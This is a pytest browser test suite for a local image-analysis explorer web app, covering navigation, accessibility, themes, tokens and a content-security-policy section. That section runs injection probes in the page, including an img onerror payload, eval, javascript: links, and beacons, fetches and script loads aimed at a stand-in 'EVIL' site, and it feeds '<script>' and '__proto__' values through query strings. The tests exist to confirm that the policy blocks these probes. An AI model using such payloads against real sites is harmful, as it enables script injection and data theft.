"""The page as a whole, in a real browser: what all of its rooms have in common."""

import http.server
import re
import threading

import numpy as np
import pytest

import attar
from attar.explorer.app import State
from attar.explorer.levels import active_levels, reach_of
from attar.explorer.server import Server
from attar.shrink import shrink_to
from tests.browser import colours_of, expect, pixels, serious

ROOMS = {"extract": "提取", "invariance": "不变性", "model": "模型", "scores": "得分"}


def arrive(page, room):
    """Wait until a room is there."""
    page.wait_for_selector(f"main.room-{room} > {room}-room", state="attached")


def settle(page, room):
    """Wait until a room has drawn what it is going to draw."""
    arrive(page, room)
    page.wait_for_load_state("networkidle")
    page.evaluate("() => document.fonts.ready")
    # What is drawn when an answer comes is drawn in the next frame.
    page.wait_for_timeout(300)


def chosen(page):
    return page.evaluate("() => Object.fromEntries(new URLSearchParams(location.search))")


# ---------------------------------------------------------------- every room


@pytest.mark.parametrize("room", ROOMS)
def test_axe_finds_nothing_serious_in_either_theme(explore, room):
    page = explore(room)
    settle(page, room)
    assert serious(page) == []
    page.locator("button[name=theme]").click()
    settle(page, room)
    assert page.evaluate("() => document.documentElement.dataset.theme") == "dark"
    assert serious(page) == []


@pytest.mark.parametrize("room", ROOMS)
def test_nothing_reaches_over_the_edge_of_a_small_screen_in_either_language(explore, room):
    page = explore(room, width=360)
    for tag in ("en", "zh-CN"):
        settle(page, room)
        assert page.evaluate("() => document.documentElement.lang") == tag
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 360
        page.locator("button[name=language]").click()


@pytest.mark.parametrize("room", ROOMS)
def test_an_address_of_nonsense_opens_the_room_all_the_same(explore, room):
    nonsense = "&".join(
        f"{name}={value}"
        for name in ("image", "kernel", "view", "at", "tour", "pool", "layer", "model", "size")
        for value in ("%00%FF<script>alert(1)</script>", "-1e999", "__proto__", "constructor")
    )
    page = explore(f"{room}?{nonsense}&lang=en&__proto__=1")
    settle(page, room)
    expect(page.get_by_role("navigation")).to_be_visible()
    assert page.locator("script").count() == 1


# ---------------------------------------------------------------- finding one's way


def test_the_first_room_opens_where_none_is_named(explore):
    page = explore("")
    arrive(page, "extract")
    assert page.url.startswith(f"{page.server.origin}/extract")
    page = explore("", state=State(opening={"image": "car"}))
    arrive(page, "extract")
    assert chosen(page)["image"] == "car"


def test_rooms_are_visited_by_keyboard_and_the_picture_goes_along(explore):
    page = explore("extract?image=car")
    arrive(page, "extract")
    for room in ("invariance", "model", "scores"):
        page.get_by_role("link", name=room.capitalize(), exact=True).focus()
        page.keyboard.press("Enter")
        arrive(page, room)
        assert page.title() == f"attar · {room.capitalize()}"
        current = page.locator("nav [aria-current=page]")
        expect(current).to_have_text(room.capitalize())
        assert chosen(page)["image"] == "car"
        assert page.evaluate("() => document.activeElement.id") == "room"
    page.go_back()
    arrive(page, "model")
    page.go_forward()
    arrive(page, "scores")


def test_the_first_tab_leads_past_the_header(explore):
    page = explore("extract")
    arrive(page, "extract")
    page.evaluate("() => { document.activeElement.blur(); window.focus(); }")
    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    expect(page.locator(".skip")).to_be_in_viewport()
    before = page.url
    page.keyboard.press("Enter")
    assert page.evaluate("() => document.activeElement.id") == "room"
    assert page.url == before


def test_a_room_opens_in_a_tab_of_its_own(explore):
    page = explore("extract")
    arrive(page, "extract")
    with page.context.expect_page() as opened:
        page.get_by_role("link", name="Invariance").click(modifiers=["Control"])
    other = opened.value
    arrive(other, "invariance")  # it has the token of this browser
    assert page.url.startswith(f"{page.server.origin}/extract")


# ---------------------------------------------------------------- language and theme


def test_the_language_is_switched_and_kept(explore):
    page = explore("extract")
    arrive(page, "extract")
    page.locator("button[name=language]").press("Enter")
    assert page.locator("nav a").all_inner_texts() == list(ROOMS.values())
    assert page.evaluate("() => document.documentElement.lang") == "zh-CN"
    assert page.title() == "attar · 提取"
    page.reload()
    arrive(page, "extract")
    assert page.locator("nav a").first.inner_text() == "提取"
    page.locator("button[name=language]").press("Enter")
    assert page.locator("nav a").first.inner_text() == "Extract"


def test_the_language_of_the_address_wins_and_follows_the_switch(explore):
    page = explore("extract?lang=zh")
    arrive(page, "extract")
    assert page.locator("nav a").first.inner_text() == "提取"
    page.locator("button[name=language]").click()
    assert chosen(page)["lang"] == "en"
    page.get_by_role("link", name="Model", exact=True).click()
    arrive(page, "model")
    assert chosen(page)["lang"] == "en"


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_the_theme_is_the_system_s_until_it_is_switched(explore, theme):
    page = explore("extract", theme=theme)
    arrive(page, "extract")

    def dark():
        colour = page.evaluate("() => getComputedStyle(document.documentElement).backgroundColor")
        return sum(map(int, re.findall(r"\d+", colour)[:3])) < 384

    assert dark() == (theme == "dark")
    page.locator("button[name=theme]").press("Enter")
    assert dark() == (theme == "light")
    page.reload()
    arrive(page, "extract")
    assert dark() == (theme == "light")


# ---------------------------------------------------------------- the address


def test_the_token_is_taken_out_of_the_address_and_the_page_can_be_shared(explore):
    page = explore("extract?image=circle")
    arrive(page, "extract")
    assert "token" not in page.url
    assert page.server.token not in page.evaluate("() => document.documentElement.outerHTML")
    kept = page.url
    page.reload()
    arrive(page, "extract")
    assert page.url == kept
    assert chosen(page)["image"] == "circle"


def test_a_page_that_was_not_invited_says_so(chromium):
    with Server(State(), port=0) as server:
        context = chromium.new_context(locale="en-US")
        page = context.new_page()
        page.goto(f"{server.origin}/extract")
        notice = page.get_by_role("status")
        expect(notice).to_contain_text("not allowed to talk to the server")
        assert page.locator("canvas").count() == 0
        # The same address with its token, pasted into the same tab, is no other page to a browser.
        page.goto(server.address())
        arrive(page, "extract")
        expect(page.get_by_role("status")).to_be_empty()
        assert "token" not in page.url
        context.close()


def test_an_invitation_is_enough_for_this_and_every_other_visit(chromium):
    with Server(State(), port=0) as server:
        context = chromium.new_context(locale="en-US")
        page = context.new_page()
        invitation = server.invitation("extract", {"image": "car"})
        page.goto(invitation)
        arrive(page, "extract")
        for again in (page.reload, lambda: page.goto(invitation)):
            again()
            arrive(page, "extract")
            assert chosen(page)["image"] == "car"
            expect(page.get_by_role("status")).to_be_empty()
        context.close()


def test_a_picture_of_the_command_line_is_called_by_its_name(explore):
    state = State()
    key = state.pictures.add(np.full((9, 9), 0.5, np.float32), "my dog.png", stays=True).key
    page = explore(f"extract?image={key}", state=state)
    arrive(page, "extract")
    expect(page.locator("select[name=picture] option:checked")).to_contain_text("my dog.png")


# ---------------------------------------------------------------- the server goes, and comes


def test_the_page_says_when_the_server_is_gone_and_goes_on_when_it_is_back(chromium):
    server = Server(State(), port=0).start()
    context = chromium.new_context(locale="en-US")
    page = context.new_page()
    page.goto(server.address("extract", {"image": "car"}))
    arrive(page, "extract")
    server.stop()
    notice = page.get_by_role("status")
    expect(notice).to_contain_text("The server cannot be reached")
    again = Server(State(), port=server.port)
    again._keys.token = server.token  # as if it had never been away
    with again:
        expect(notice).to_be_empty(timeout=10_000)
        arrive(page, "extract")
        assert chosen(page)["image"] == "car"
    context.close()


def test_a_notice_is_dismissed_by_keyboard(explore):
    page = explore("extract?image=car")
    arrive(page, "extract")
    page.evaluate(
        """() => import("/static/base/notices.js").then((it) => it.notice("Hear, hear"))"""
    )
    expect(page.get_by_role("status")).to_contain_text("Hear, hear")
    page.get_by_role("button", name="Dismiss").press("Enter")
    expect(page.get_by_role("status")).to_be_empty()


# ---------------------------------------------------------------- what the page may not do

PROBES = {
    "an inline script": """() => {
        const script = document.createElement("script");
        try { script.textContent = "window.hit = true"; } catch { return; }
        document.head.append(script);
    }""",
    "an inline handler": """() => {
        const button = document.createElement("button");
        try { button.setAttribute("onclick", "window.hit = true"); } catch { return; }
        document.body.append(button);
        button.click();
    }""",
    "markup in a string": """() => {
        try { document.body.innerHTML = "<img src=x onerror='window.hit = true'>"; } catch { }
    }""",
    "a script of another site": """() => {
        const script = document.createElement("script");
        try { script.src = EVIL + "/hit.js"; } catch { return; }
        document.head.append(script);
    }""",
    "eval": """() => { try { eval("window.hit = true"); } catch { } }""",
    "Function": """() => { try { new Function("window.hit = true")(); } catch { } }""",
    "a timer of text": """() => { try { setTimeout("window.hit = true", 0); } catch { } }""",
    "a link of javascript": """() => {
        const link = document.createElement("a");
        link.href = "javascript:void(window.hit = true)";
        document.body.append(link);
        link.click();
    }""",
    "an inline style": """() => {
        const style = document.createElement("style");
        style.textContent = "body { color: rgb(1, 2, 3) !important }";
        document.head.append(style);
        window.hit = getComputedStyle(document.body).color === "rgb(1, 2, 3)";
    }""",
    "an image of another site": """() => new Promise((done) => {
        const image = new Image();
        image.onload = () => done(window.hit = true);
        image.onerror = done;
        image.src = EVIL + "/hit.svg";
    })""",
    "a request to another site": """() => fetch(EVIL, {mode: "no-cors"}).then(
        () => { window.hit = true; }, () => {})""",
    "a socket to another site": """() => new Promise((done) => {
        try {
            const socket = new WebSocket(EVIL.replace("http", "ws"));
            socket.onclose = done;
            socket.onerror = done;
        } catch { done(); }
    })""",
    "a beacon": """() => { navigator.sendBeacon(EVIL, "secret"); }""",
    "a frame": """() => new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.onload = done;
        frame.src = EVIL;
        document.body.append(frame);
    })""",
    "a form": """() => {
        const form = document.createElement("form");
        form.action = EVIL;
        document.body.append(form);
        form.submit();
    }""",
    "another base": """() => {
        const base = document.createElement("base");
        base.href = EVIL;
        document.head.append(base);
        window.hit = document.baseURI.startsWith(EVIL);
    }""",
    "a worker": """() => {
        try {
            const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
            worker.onmessage = () => { window.hit = true; };
        } catch { }
    }""",
}


@pytest.fixture(scope="module")
def evil():
    """Another site: records what reaches it."""
    reached = []

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            reached.append(self.path)
            svg = self.path.endswith(".svg")
            body = b'<svg xmlns="http://www.w3.org/2000/svg"/>' if svg else b"window.hit = true"
            self.send_response(200)
            self.send_header("Content-Type", "image/svg+xml" if svg else "text/javascript")
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *arguments):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_port}", reached
        site.shutdown()


def run(page, probe, site):
    """Run a probe as a script of the page; what is evaluated from outside may do more."""
    script = f"export default {PROBES[probe].replace('EVIL', repr(site))};"
    page.route(
        "**/static/probe.js",
        lambda route: route.fulfill(body=script, content_type="text/javascript"),
    )
    page.evaluate("() => import('/static/probe.js').then((it) => it.default())")


@pytest.fixture(scope="module")
def bare(chromium):
    """Open the page in a browser whose console nobody watches, with the policy or without."""
    with Server(State(), port=0) as server:
        contexts = {bypass: chromium.new_context(bypass_csp=bypass) for bypass in (False, True)}
        for context in contexts.values():
            page = context.new_page()
            page.goto(server.address())
            arrive(page, "extract")

        def open_page(bypass=False):
            page = contexts[bypass].new_page()
            page.goto(f"{server.origin}/extract")
            arrive(page, "extract")
            return page

        yield open_page
        for context in contexts.values():
            context.close()


@pytest.mark.parametrize("probe", PROBES)
def test_the_policy_holds_in_the_browser(bare, evil, probe):
    site, reached = evil
    page = bare()
    reached.clear()
    run(page, probe, site)
    page.wait_for_timeout(100)
    assert not page.evaluate("() => Boolean(window.hit)")
    assert reached == []
    page.close()


@pytest.mark.parametrize("probe", ["an inline handler", "a script of another site", "eval"])
def test_without_the_policy_the_probes_would_hit(bare, evil, probe):
    site, reached = evil
    page = bare(bypass=True)
    reached.clear()
    run(page, probe, site)
    page.wait_for_timeout(300)
    assert reached or page.evaluate("() => Boolean(window.hit)")
    page.close()


def test_another_site_cannot_read_ask_embed_or_frame_this_one(chromium, evil):
    site, _ = evil
    with Server(State(), port=0) as server:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(f"{site}/page.svg")
        found = page.evaluate(
            """async ([origin, token]) => {
                const read = (path, options) => fetch(origin + path, options)
                    .then((answer) => answer.text(), () => "refused");
                const socket = await new Promise((done) => {
                    const address = origin.replace("http", "ws") + "/talk";
                    const it = new WebSocket(address, ["attar", token]);
                    it.onopen = () => done("open");
                    it.onerror = () => done("refused");
                });
                const image = await new Promise((done) => {
                    const it = new Image();
                    it.onload = () => done("loaded");
                    it.onerror = () => done("refused");
                    it.src = origin + "/static/mark.svg";
                });
                const headers = {"X-Attar-Token": token};
                const post = await read("/pictures", {method: "POST", body: "x", headers});
                return {read: await read("/colours.json"), post, socket, image};
            }""",
            [server.origin, server.token],
        )
        assert found == dict.fromkeys(("read", "post", "socket", "image"), "refused")
        context.close()


# ---------------------------------------------------------------- what is painted


def test_what_is_painted_is_what_extract_returns(explore):
    page = explore("extract?image=coffee&kernel=edge")
    settle(page, "extract")
    painted = pixels(page, "figure.panel:nth-of-type(3) canvas.map")
    image = attar.read_image("examples/coffee.jpg")
    found = attar.extract(image, "edge")
    height, width = painted.shape[:2]
    reach = reach_of(found.detect, found.condense)
    levels = active_levels(shrink_to(found.detect[..., 0], height, width, "mean"), reach)
    assert np.array_equal(painted[..., :3], colours_of(levels, "magma"))
